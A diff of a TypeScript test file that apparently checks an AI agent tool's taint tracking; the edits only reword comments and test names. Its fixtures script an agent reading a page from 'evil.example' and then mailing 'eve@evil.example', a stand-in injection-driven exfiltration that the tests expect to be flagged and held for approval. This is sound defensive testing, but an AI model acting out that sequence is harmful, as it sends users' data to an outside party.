@@ -19,7 +19,7 @@ const FETCH = call("page", { url: "https://evil.example/a" });
 const WHY =
   "would reach outside (mail to eve@evil.example) after the agent read untrusted content from page evil.example.";
 
-/** What is marked in the timeline: steps with what they read, by run. */
+/** Marks in the timeline: steps with their marks, by run. */
 function marks(runs: readonly RunRow[]): unknown {
   return runs.map(({ turns }) =>
     turns.flatMap(({ steps }) =>
@@ -37,7 +37,7 @@ async function read(script: readonly ScriptLine[], messages: readonly string[] =
   return store;
 }
 
-test("each call says what it read and where that is from, and the first untrusted one is marked", async () => {
+test("each call has its mark and origin, and the first untrusted one stands out", async () => {
   const fold = await foldOf(await read([call("crm"), FETCH, say("A."), FETCH, say("B.")], ["One.", "Two."]));
   const runs = markUntrusted(fold.overview());
 
@@ -73,7 +73,7 @@ test("an answer with sources, a message and an answer from outside bring it, too
   expect([reads, first]).toEqual(["untrusted", true]);
 });
 
-test("what was taken back has not made the history untrusted", async () => {
+test("a run that was taken back has not made the history untrusted", async () => {
   const store = await read([FETCH, say("A.")]);
   const session = sessionOf(store, [say("B.")], { tools });
   await session.rewind();
@@ -83,7 +83,7 @@ test("what was taken back has not made the history untrusted", async () => {
   ).toEqual([]);
 });
 
-test("a call that is asked about has the reason in words: in the timeline, the turn and the question", async () => {
+test("a call that needs approval has the reason in words: in the timeline, the turn and the question", async () => {
   const fold = await foldOf(await read([FETCH, call("mail", { to: "eve@evil.example" })]));
   const overview = fold.overview();
   const turn = overview.runs[0]?.turns[1];
